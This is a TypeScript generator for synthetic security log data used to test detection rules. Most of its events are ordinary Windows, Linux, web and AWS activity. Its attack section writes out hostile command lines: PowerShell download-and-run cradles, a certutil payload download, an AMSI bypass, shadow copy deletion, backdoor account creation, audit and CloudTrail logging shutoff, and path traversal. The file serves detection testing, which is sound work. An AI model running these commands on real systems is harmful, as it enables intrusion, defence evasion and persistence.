/**
 * Writes examples/events/sample.ndjson: a small, deterministic day of flat events for the example rules (Sysmon,
 * Security, System and PowerShell events from a Windows domain, sshd and auditd lines from Linux servers, web server
 * requests, AWS CloudTrail records). Most events are ordinary activity, including near misses that the rules' filters
 * exist for; about one in eight is an attack step one of the example rules describes.
 *
 *   npx tsx examples/generate-sample.ts          # rewrite the file
 *   npx tsx examples/generate-sample.ts --check  # exit 1 if the file differs from what this script writes
 *
 * Deterministic: a seeded generator, a fixed start time, no clock or environment input. Addresses are from the
 * documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and private ranges; names are invented.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath, pathToFileURL } from 'node:url';

type Event = Record<string, unknown>;

/** mulberry32: a small seeded PRNG, enough for sample data. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const POWERSHELL = 'Microsoft-Windows-PowerShell/Operational';
const HOSTS = ['WS-0142.corp.example', 'WS-0177.corp.example', 'WS-0203.corp.example', 'SRV-FILE01.corp.example'];
const USERS = ['alice', 'bob', 'carol', 'dave'];

/** UTF-16LE base64, as PowerShell's -EncodedCommand takes it. */
function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

export function generateSample(): string {
  const rng = prng(20261129);
  const int = (n: number): number => Math.floor(rng() * n);
  const pick = <T>(list: readonly T[]): T => list[int(list.length)];
  let clock = Date.UTC(2026, 10, 28, 7, 30, 0);
  const guid = (): string => {
    const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(16)]).join('');
    return `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`.toUpperCase();
  };
  const pid = (): number => 1000 + int(14000);

  /** The next event's time: a few seconds to a couple of minutes later. */
  const next = (): Date => {
    clock += 1500 + int(90_000);
    return new Date(clock);
  };
  const sysmonTime = (d: Date): string => d.toISOString().replace('T', ' ').replace('Z', '');
  const iso = (d: Date): string => d.toISOString();

  const sysmon = (eventId: number, host: string, fields: Event): Event => ({
    EventID: eventId,
    Channel: SYSMON,
    Computer: host,
    UtcTime: sysmonTime(next()),
    ...fields,
  });
  const userOf = (u: string): string => `CORP\\${u}`;

  interface Proc {
    image: string;
    cmd: string;
    parent: string;
    ofn: string;
    user?: string;
  }
  const proc = (p: Proc, host = pick(HOSTS)): Event =>
    sysmon(1, host, {
      ProcessGuid: guid(),
      ProcessId: pid(),
      Image: p.image,
      OriginalFileName: p.ofn,
      CommandLine: p.cmd,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: p.user ?? userOf(pick(USERS)),
      IntegrityLevel: p.user?.startsWith('NT AUTHORITY') ? 'System' : 'Medium',
      ParentImage: p.parent,
    });

  // ---------------------------------------------------------------------------------------------------------------
  // Ordinary activity (and near misses the rules' filters exist for)
  const S32 = 'C:\\Windows\\System32';
  const benignProcesses = (): Proc => {
    const u = pick(USERS);
    return pick<Proc>([
      { image: `${S32}\\notepad.exe`, cmd: `"${S32}\\notepad.exe" C:\\Users\\${u}\\Documents\\notes.txt`, parent: 'C:\\Windows\\explorer.exe', ofn: 'NOTEPAD.EXE' },
      { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ofn: 'chrome.exe' },
      { image: `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, cmd: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', parent: `${S32}\\svchost.exe`, ofn: 'PowerShell.EXE', user: 'NT AUTHORITY\\SYSTEM' },
      { image: `${S32}\\cmd.exe`, cmd: 'cmd.exe /c dir /s C:\\Projects', parent: 'C:\\Windows\\explorer.exe', ofn: 'Cmd.Exe' },
      { image: `${S32}\\certutil.exe`, cmd: `certutil.exe -hashfile C:\\Users\\${u}\\Downloads\\setup.msi SHA256`, parent: `${S32}\\cmd.exe`, ofn: 'CertUtil.exe' },
      { image: `${S32}\\schtasks.exe`, cmd: 'schtasks.exe /query /fo LIST /v', parent: `${S32}\\cmd.exe`, ofn: 'schtasks.exe' },
      { image: `${S32}\\vssadmin.exe`, cmd: 'vssadmin.exe list shadows', parent: `${S32}\\cmd.exe`, ofn: 'VSSADMIN.EXE', user: 'NT AUTHORITY\\SYSTEM' },
      { image: `${S32}\\whoami.exe`, cmd: 'whoami.exe /upn', parent: `${S32}\\cmd.exe`, ofn: 'whoami.exe' },
      { image: `${S32}\\ipconfig.exe`, cmd: 'ipconfig.exe /all', parent: `${S32}\\cmd.exe`, ofn: 'ipconfig.exe' },
      { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${u}\\Documents\\Q4 report.docx"`, parent: 'C:\\Windows\\explorer.exe', ofn: 'WinWord.exe' },
      { image: `${S32}\\splwow64.exe`, cmd: 'splwow64.exe 12288', parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', ofn: 'splwow64.exe' },
      { image: `${S32}\\rundll32.exe`, cmd: 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl', parent: 'C:\\Windows\\explorer.exe', ofn: 'RUNDLL32.EXE' },
      { image: `${S32}\\wbem\\WMIC.exe`, cmd: 'wmic.exe os get caption,version', parent: `${S32}\\cmd.exe`, ofn: 'wmic.exe' },
      { image: 'C:\\Program Files\\Git\\cmd\\git.exe', cmd: 'git.exe fetch --prune origin', parent: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', ofn: 'git.exe' },
      { image: `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, cmd: `powershell.exe -NoLogo -NonInteractive -enc ${encodeCommand('Get-CimInstance Win32_OperatingSystem | Select-Object Caption')}`, parent: 'C:\\Windows\\CCM\\CcmExec.exe', ofn: 'PowerShell.EXE', user: 'NT AUTHORITY\\SYSTEM' },
      { image: `${S32}\\msiexec.exe`, cmd: 'msiexec.exe /i C:\\Windows\\Temp\\agent-7.2.msi /qn', parent: `${S32}\\services.exe`, ofn: 'msiexec.exe', user: 'NT AUTHORITY\\SYSTEM' },
      { image: `${S32}\\schtasks.exe`, cmd: `schtasks.exe /create /tn "Teams Update" /tr "C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart Teams.exe" /sc daily`, parent: `C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Teams\\Update.exe`, ofn: 'schtasks.exe' },
    ]);
  };
  const benign: (() => Event)[] = [
    () => proc(benignProcesses()),
    () => proc(benignProcesses()),
    () => proc(benignProcesses()),
    () => {
      const host = pick(HOSTS);
      const c = pick([
        { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ip: `142.250.${int(255)}.${int(255)}`, port: 443, name: 'www.google.com' },
        { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ip: `52.97.${int(255)}.${int(255)}`, port: 443, name: 'outlook.office365.com' },
        { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ip: '10.0.5.20', port: 445, name: 'SRV-FILE01.corp.example' },
        { image: `${S32}\\svchost.exe`, ip: '10.0.0.10', port: 53, name: 'DC01.corp.example' },
        { image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', ip: `13.107.${int(255)}.${int(255)}`, port: 443, name: 'www.bing.com' },
      ]);
      return sysmon(3, host, {
        Image: c.image,
        User: userOf(pick(USERS)),
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: `10.0.${int(8) + 1}.${int(250) + 2}`,
        SourcePort: 49152 + int(16000),
        DestinationIp: c.ip,
        DestinationHostname: c.name,
        DestinationPort: c.port,
      });
    },
    () => {
      const q = pick([
        { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', name: 'www.wikipedia.org' },
        { image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', name: 'pastebin.com' },
        { image: `${S32}\\svchost.exe`, name: 'settings-win.data.microsoft.com' },
        { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', name: 'outlook.office365.com' },
        { image: `${S32}\\svchost.exe`, name: 'e7b3c94d2a1f08e6b5c4d3a2f1e0d9c8b7a6f5e4d3.dscb.akamaiedge.net' },
        { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', name: 'fonts.gstatic.com' },
      ]);
      return sysmon(22, pick(HOSTS), { Image: q.image, QueryName: q.name, QueryStatus: '0', QueryResults: `::ffff:93.184.${int(255)}.${int(255)};`, User: userOf(pick(USERS)) });
    },
    () => {
      const u = pick(USERS);
      const f = pick([
        { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', target: `C:\\Users\\${u}\\Downloads\\invoice-${1000 + int(9000)}.pdf` },
        { image: `${S32}\\msiexec.exe`, target: `C:\\Users\\${u}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Agent Tray.lnk` },
        { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', target: `C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3J2\\agenda.docx` },
        { image: `${S32}\\svchost.exe`, target: 'C:\\Windows\\Prefetch\\NOTEPAD.EXE-D8414F97.pf' },
      ]);
      return sysmon(11, pick(HOSTS), { Image: f.image, TargetFilename: f.target, CreationUtcTime: sysmonTime(new Date(clock)), User: userOf(u) });
    },
    () => {
      const r = pick([
        { image: 'C:\\Program Files\\Vendor\\Agent\\agent.exe', object: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\VendorAgent', details: '"C:\\Program Files\\Vendor\\Agent\\agent.exe" --tray' },
        { image: `${S32}\\svchost.exe`, object: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth', details: `${S32}\\SecurityHealthSystray.exe` },
        { image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', object: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\Vendor\\Cache', details: 'DWORD (0x00000000)' },
        { image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', object: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsDefender', details: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MSASCuiL.exe"' },
      ]);
      return sysmon(13, pick(HOSTS), { EventType: 'SetValue', Image: r.image, TargetObject: r.object, Details: r.details, User: 'NT AUTHORITY\\SYSTEM' });
    },
    () => {
      const l = pick([
        { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', loaded: `${S32}\\kernelbase.dll`, signed: 'true' },
        { image: 'C:\\Users\\Public\\Tools\\PortableGit\\bin\\bash.exe', loaded: 'C:\\Users\\Public\\Tools\\PortableGit\\usr\\bin\\msys-2.0.dll', signed: 'true' },
        { image: `${S32}\\svchost.exe`, loaded: `${S32}\\wininet.dll`, signed: 'true' },
      ]);
      return sysmon(7, pick(HOSTS), { Image: l.image, ImageLoaded: l.loaded, Signed: l.signed, SignatureStatus: 'Valid', User: userOf(pick(USERS)) });
    },
    () => {
      const a = pick([
        { source: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', access: '0x1410' },
        { source: `${S32}\\wbem\\WmiPrvSE.exe`, access: '0x1410' },
        { source: '', access: '0x1010' },
        { source: `${S32}\\svchost.exe`, access: '0x1000' },
      ]);
      return sysmon(10, pick(HOSTS), { SourceImage: a.source, TargetImage: `${S32}\\lsass.exe`, GrantedAccess: a.access, SourceProcessId: pid(), TargetProcessId: 684 });
    },
    () =>
      ({
        EventID: 4104,
        Channel: POWERSHELL,
        Computer: pick(HOSTS),
        TimeCreated: iso(next()),
        MessageNumber: 1,
        MessageTotal: 1,
        ScriptBlockText: pick([
          'Get-ChildItem -Path C:\\Scripts -Filter *.log | Remove-Item -WhatIf',
          'Import-Module ActiveDirectory; Get-ADUser -Filter * -SearchBase "OU=Staff,DC=corp,DC=example" | Measure-Object',
          '$ProgressPreference = "SilentlyContinue"; Invoke-WebRequest -Uri https://intranet.corp.example/health -UseBasicParsing | Select-Object StatusCode',
          'Get-Service -Name Spooler | Restart-Service -Force',
        ]),
        ScriptBlockId: guid().slice(1, -1).toLowerCase(),
      }) as Event,
    () => {
      const u = pick(USERS);
      const e = pick([
        { EventID: 4624, LogonType: 3, TargetUserName: u, IpAddress: `10.0.${int(8) + 1}.${int(250) + 2}` },
        { EventID: 4624, LogonType: 10, TargetUserName: u, IpAddress: '10.0.3.15' },
        { EventID: 4624, LogonType: 2, TargetUserName: u, IpAddress: '127.0.0.1' },
        { EventID: 4625, LogonType: 3, TargetUserName: u, IpAddress: `10.0.${int(8) + 1}.${int(250) + 2}` },
        { EventID: 4625, LogonType: 2, TargetUserName: 'Administrator', IpAddress: '127.0.0.1' },
      ]);
      return { ...e, Channel: 'Security', Computer: pick(HOSTS), TimeCreated: iso(next()), TargetDomainName: 'CORP', WorkstationName: pick(HOSTS).split('.')[0] };
    },
    () => ({
      Channel: 'Security',
      Computer: pick(HOSTS),
      TimeCreated: iso(next()),
      ...pick<Event>([
        { EventID: 4720, SamAccountName: 'erin', TargetUserName: 'erin', SubjectUserName: 'it-admin', TargetDomainName: 'CORP' },
        { EventID: 4732, TargetSid: 'S-1-5-32-544', MemberSid: 'S-1-5-21-1004336348-1177238915-682003330-1105', SubjectUserName: 'SRV-FILE01$' },
        { EventID: 4732, TargetSid: 'S-1-5-32-555', MemberSid: 'S-1-5-21-1004336348-1177238915-682003330-1107', SubjectUserName: 'it-admin' },
        { EventID: 4688, NewProcessName: `${S32}\\net.exe`, CommandLine: 'net use Z: \\\\SRV-FILE01\\projects', SubjectUserName: 'alice', ParentProcessName: `${S32}\\cmd.exe` },
        { EventID: 4688, NewProcessName: `${S32}\\whoami.exe`, CommandLine: 'whoami /groups', SubjectUserName: 'dave', ParentProcessName: `${S32}\\cmd.exe` },
      ]),
    }),
    () =>
      ({
        Channel: 'System',
        Computer: pick(HOSTS),
        TimeCreated: iso(next()),
        Provider_Name: 'Service Control Manager',
        ...pick<Event>([
          { EventID: 7036, param1: 'Windows Update', param2: 'running' },
          { EventID: 7036, param1: 'Print Spooler', param2: 'stopped' },
          { EventID: 7045, ServiceName: 'Vendor Agent', ImagePath: '"C:\\Program Files\\Vendor\\Agent\\agentsvc.exe"', ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' },
        ]),
      }) as Event,
    () => {
      const host = pick(['web-01', 'db-02', 'bastion-01']);
      const line = pick([
        { program: 'sshd', message: `Accepted publickey for deploy from 10.0.9.${int(250) + 2} port ${40000 + int(20000)} ssh2: ED25519 SHA256:q8n5mY1kX4GZp0c3bU7vVtR2a9LsE6fJdH1wKoQiMzA` },
        { program: 'sshd', message: `Failed password for invalid user test from 192.0.2.${int(250) + 2} port ${40000 + int(20000)} ssh2` },
        { program: 'sshd', message: 'pam_unix(sshd:session): session closed for user deploy' },
        { program: 'CRON', message: '(root) CMD (/usr/local/bin/backup.sh --incremental)' },
        { program: 'auditd', message: 'type=SERVICE_START msg=audit(1764318605.118:412): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'' },
        { program: 'auditd', message: 'type=EXECVE msg=audit(1764318702.332:455): argc=3 a0="auditctl" a1="-l" a2="-k"' },
      ]);
      return { timestamp: iso(next()), host, ...line, facility: line.program === 'CRON' ? 'cron' : 'authpriv' };
    },
    () => {
      const r = pick([
        { method: 'GET', stem: '/index.html', query: '-', status: 200 },
        { method: 'GET', stem: '/assets/app.js', query: 'v=3.2.1', status: 200 },
        { method: 'POST', stem: '/api/login', query: '-', status: 302 },
        { method: 'GET', stem: '/download.php', query: 'file=../../etc/hosts', status: 403 },
        { method: 'GET', stem: '/search', query: 'q=quarterly+report', status: 200 },
      ]);
      const d = next();
      return {
        '@timestamp': iso(d),
        date: iso(d).slice(0, 10),
        time: iso(d).slice(11, 19),
        's-ip': '10.0.5.30',
        'cs-method': r.method,
        'cs-uri-stem': r.stem,
        'cs-uri-query': r.query,
        's-port': 443,
        'c-ip': `198.51.100.${int(250) + 2}`,
        'cs(User-Agent)': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
        'sc-status': r.status,
        'time-taken': 12 + int(300),
      };
    },
    () => {
      const r = pick<Event>([
        { eventSource: 'ec2.amazonaws.com', eventName: 'DescribeInstances', userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/ReadOnly/monitoring' } },
        { eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/alice', userName: 'alice' } },
        { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', errorCode: 'AccessDenied', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/intern', userName: 'intern' } },
        { eventSource: 'cloudtrail.amazonaws.com', eventName: 'UpdateTrail', userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/TrailAdministration' } },
        { eventSource: 's3.amazonaws.com', eventName: 'GetObject', userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/app-backend/i-0abc123' } },
      ]);
      return { eventVersion: '1.10', eventTime: iso(next()), awsRegion: 'eu-west-1', sourceIPAddress: `203.0.113.${int(250) + 2}`, recipientAccountId: '111122223333', ...r };
    },
  ];

  // ---------------------------------------------------------------------------------------------------------------
  // Attack steps: each is what one example rule describes (the rule's file name in the comment).
  const attacker = 'bob';
  const malicious: (() => Event | Event[])[] = [
    // proc_creation_win_powershell_encoded_command (pwsh /ec: a windash variant)
    () => proc({ image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', cmd: `pwsh.exe -NoProfile /ec ${encodeCommand('Start-Sleep -Seconds 30; Get-Process | Out-File $env:TEMP\\p.txt')}`, parent: `${S32}\\cmd.exe`, ofn: 'pwsh.dll', user: userOf(attacker) }),
    // ..._encoded_command and ..._encoded_download_cradle: one event, two rules
    () => proc({ image: `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, cmd: `powershell.exe -nop -w hidden -EncodedCommand ${encodeCommand("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`, parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ofn: 'PowerShell.EXE', user: userOf(attacker) }),
    // proc_creation_win_certutil_download
    () => proc({ image: `${S32}\\certutil.exe`, cmd: 'certutil.exe -urlcache -split -f http://198.51.100.7/payload.bin C:\\Users\\Public\\payload.bin', parent: `${S32}\\cmd.exe`, ofn: 'CertUtil.exe', user: userOf(attacker) }),
    // proc_creation_win_rundll32_javascript
    () => proc({ image: `${S32}\\rundll32.exe`, cmd: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://198.51.100.9/x.sct")', parent: `${S32}\\cmd.exe`, ofn: 'RUNDLL32.EXE', user: userOf(attacker) }),
    // proc_creation_win_renamed_lolbin
    () => proc({ image: 'C:\\Users\\Public\\svchosts.exe', cmd: 'svchosts.exe -decode C:\\Users\\Public\\blob.txt C:\\Users\\Public\\tool.exe', parent: `${S32}\\cmd.exe`, ofn: 'CertUtil.exe', user: userOf(attacker) }),
    // proc_creation_win_shadow_copy_deletion
    () => proc({ image: `${S32}\\vssadmin.exe`, cmd: 'vssadmin.exe Delete Shadows /All /Quiet', parent: `${S32}\\cmd.exe`, ofn: 'VSSADMIN.EXE', user: 'NT AUTHORITY\\SYSTEM' }, 'SRV-FILE01.corp.example'),
    // proc_creation_win_office_spawns_shell
    () => proc({ image: `${S32}\\cmd.exe`, cmd: 'cmd.exe /c start /b %TEMP%\\inv0923.exe', parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', ofn: 'Cmd.Exe', user: userOf('carol') }),
    // proc_creation_win_schtasks_user_folder
    () => proc({ image: `${S32}\\schtasks.exe`, cmd: `schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr "C:\\Users\\${attacker}\\AppData\\Roaming\\sync\\odsync.exe" /f`, parent: `${S32}\\cmd.exe`, ofn: 'schtasks.exe', user: userOf(attacker) }),
    // net_connection_win_office_smb_external
    () => sysmon(3, 'WS-0177.corp.example', { Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', User: userOf('carol'), Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.2.77', SourcePort: 50112, DestinationIp: '203.0.113.50', DestinationHostname: '', DestinationPort: 445 }),
    // net_connection_win_tunnel_service
    () => sysmon(3, 'WS-0142.corp.example', { Image: 'C:\\Users\\Public\\svchosts.exe', User: userOf(attacker), Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.1.42', SourcePort: 50877, DestinationIp: '203.0.113.8', DestinationHostname: 'c2f1-203-0-113-8.ngrok-free.app', DestinationPort: 443 }),
    // dns_query_win_paste_site_script_host
    () => sysmon(22, 'WS-0203.corp.example', { Image: `${S32}\\wscript.exe`, QueryName: 'pastebin.com', QueryStatus: '0', QueryResults: '::ffff:104.20.67.143;', User: userOf('dave') }),
    // dns_query_win_long_random_label
    () => sysmon(22, 'WS-0142.corp.example', { Image: `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, QueryName: 'MzQ1Njc4OTAxMjM0NTY3ODkwYWJjZGVmZ2hpamtsbW5vcA0a.t.example-tunnel.net', QueryStatus: '0', QueryResults: '', User: userOf(attacker) }),
    // file_event_win_startup_folder_script
    () => sysmon(11, 'WS-0203.corp.example', { Image: `${S32}\\wscript.exe`, TargetFilename: 'C:\\Users\\dave\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs', CreationUtcTime: sysmonTime(new Date(clock)), User: userOf('dave') }),
    // file_event_win_lsass_dump_file
    () => sysmon(11, 'SRV-FILE01.corp.example', { Image: `${S32}\\rundll32.exe`, TargetFilename: 'C:\\Windows\\Temp\\lsass.dmp', CreationUtcTime: sysmonTime(new Date(clock)), User: 'NT AUTHORITY\\SYSTEM' }),
    // registry_set_win_run_key_user_folder
    () => sysmon(13, 'WS-0142.corp.example', { EventType: 'SetValue', Image: `${S32}\\reg.exe`, TargetObject: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\Users\\Public\\updater.exe', User: userOf(attacker) }),
    // registry_set_win_defender_exclusion
    () => sysmon(13, 'WS-0142.corp.example', { EventType: 'SetValue', Image: `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public', Details: 'DWORD (0x00000000)', User: userOf(attacker) }),
    // image_load_win_dll_from_public_folder
    () => sysmon(7, 'WS-0142.corp.example', { Image: 'C:\\Users\\Public\\OneDriveUpdater.exe', ImageLoaded: 'C:\\Users\\Public\\version.dll', Signed: 'false', SignatureStatus: 'Unavailable', User: userOf(attacker) }),
    // proc_access_win_lsass_memory_read
    () => sysmon(10, 'SRV-FILE01.corp.example', { SourceImage: `${S32}\\rundll32.exe`, TargetImage: `${S32}\\lsass.exe`, GrantedAccess: '0x1FFFFF', SourceProcessId: pid(), TargetProcessId: 684 }),
    // posh_ps_amsi_bypass
    () => ({ EventID: 4104, Channel: POWERSHELL, Computer: 'WS-0142.corp.example', TimeCreated: iso(next()), MessageNumber: 1, MessageTotal: 1, ScriptBlockText: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", ScriptBlockId: guid().slice(1, -1).toLowerCase() }),
    // posh_ps_download_and_execute
    () => ({ EventID: 4104, Channel: POWERSHELL, Computer: 'WS-0142.corp.example', TimeCreated: iso(next()), MessageNumber: 1, MessageTotal: 1, ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')", ScriptBlockId: guid().slice(1, -1).toLowerCase() }),
    // win_security_failed_logon_builtin_admin
    () => ({ EventID: 4625, Channel: 'Security', Computer: 'SRV-FILE01.corp.example', TimeCreated: iso(next()), LogonType: 3, TargetUserName: 'Administrator', TargetDomainName: 'SRV-FILE01', IpAddress: '198.51.100.23', WorkstationName: 'kali', Status: '0xc000006d' }),
    // win_security_rdp_logon_public_address
    () => ({ EventID: 4624, Channel: 'Security', Computer: 'SRV-FILE01.corp.example', TimeCreated: iso(next()), LogonType: 10, TargetUserName: 'it-admin', TargetDomainName: 'CORP', IpAddress: '203.0.113.99', WorkstationName: 'DESKTOP-7Q2L1' }),
    // win_security_hidden_user_created
    () => ({ EventID: 4720, Channel: 'Security', Computer: 'WS-0142.corp.example', TimeCreated: iso(next()), SamAccountName: 'helpdesk$', TargetUserName: 'helpdesk$', SubjectUserName: attacker, TargetDomainName: 'WS-0142' }),
    // win_security_member_added_local_admins
    () => ({ EventID: 4732, Channel: 'Security', Computer: 'WS-0142.corp.example', TimeCreated: iso(next()), TargetSid: 'S-1-5-32-544', TargetUserName: 'Administrators', MemberSid: 'S-1-5-21-3623811015-3361044348-30300820-1013', SubjectUserName: attacker }),
    // win_security_net_user_add_4688
    () => ({ EventID: 4688, Channel: 'Security', Computer: 'WS-0142.corp.example', TimeCreated: iso(next()), NewProcessName: `${S32}\\net.exe`, CommandLine: 'net user support_tmp Winter2026! /add', SubjectUserName: attacker, ParentProcessName: `${S32}\\cmd.exe` }),
    // win_system_service_install_user_folder
    () => ({ EventID: 7045, Channel: 'System', Computer: 'SRV-FILE01.corp.example', TimeCreated: iso(next()), Provider_Name: 'Service Control Manager', ServiceName: 'BTOBTO', ImagePath: '%COMSPEC% /c powershell -nop -w hidden -c "Start-Process C:\\Windows\\Temp\\svc.exe"', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }),
    // lnx_auditd_audit_tampering (both keyword groups)
    () => [
      { timestamp: iso(next()), host: 'db-02', program: 'auditd', facility: 'authpriv', message: 'type=USER_CMD msg=audit(1764404090.101:897): pid=2211 uid=1001 auid=1001 ses=7 msg=\'cwd="/home/ops" cmd="auditctl -D" terminal=pts/0 res=success\'' },
      { timestamp: iso(next()), host: 'db-02', program: 'auditd', facility: 'authpriv', message: 'type=SERVICE_STOP msg=audit(1764404112.412:902): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'' },
    ],
    // lnx_sshd_root_password_login
    () => ({ timestamp: iso(next()), host: 'bastion-01', program: 'sshd', facility: 'authpriv', message: 'Accepted password for root from 203.0.113.45 port 50122 ssh2' }),
    // web_path_traversal_attempt
    () => {
      const d = next();
      return { '@timestamp': iso(d), date: iso(d).slice(0, 10), time: iso(d).slice(11, 19), 's-ip': '10.0.5.30', 'cs-method': 'GET', 'cs-uri-stem': '/download.php', 'cs-uri-query': 'file=../../../../etc/passwd', 's-port': 443, 'c-ip': '198.51.100.23', 'cs(User-Agent)': 'python-requests/2.32.3', 'sc-status': 200, 'time-taken': 8 };
    },
    // aws_cloudtrail_logging_disabled
    () => ({ eventVersion: '1.10', eventTime: iso(next()), awsRegion: 'eu-west-1', sourceIPAddress: '198.51.100.61', recipientAccountId: '111122223333', eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/ci-deployer', userName: 'ci-deployer' }, requestParameters: { name: 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail' } }),
  ];

  // About seven ordinary events before each attack step, in a fixed order.
  const events: Event[] = [];
  for (const step of malicious) {
    const quiet = 4 + int(6);
    for (let i = 0; i < quiet; i++) events.push(pick(benign)());
    const e = step();
    events.push(...(Array.isArray(e) ? e : [e]));
  }
  for (let i = 0; i < 12; i++) events.push(pick(benign)());
  return events.map((e) => JSON.stringify(e)).join('\n') + '\n';
}

const OUTPUT = fileURLToPath(new URL('./events/sample.ndjson', import.meta.url));

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const text = generateSample();
  if (process.argv.includes('--check')) {
    const current = readFileSync(OUTPUT, 'utf8');
    if (current !== text) {
      process.stderr.write(`${OUTPUT} differs from what examples/generate-sample.ts writes; run npx tsx examples/generate-sample.ts\n`);
      process.exitCode = 1;
    }
  } else {
    writeFileSync(OUTPUT, text);
    process.stdout.write(`wrote ${text.split('\n').length - 1} events to ${OUTPUT}\n`);
  }
}
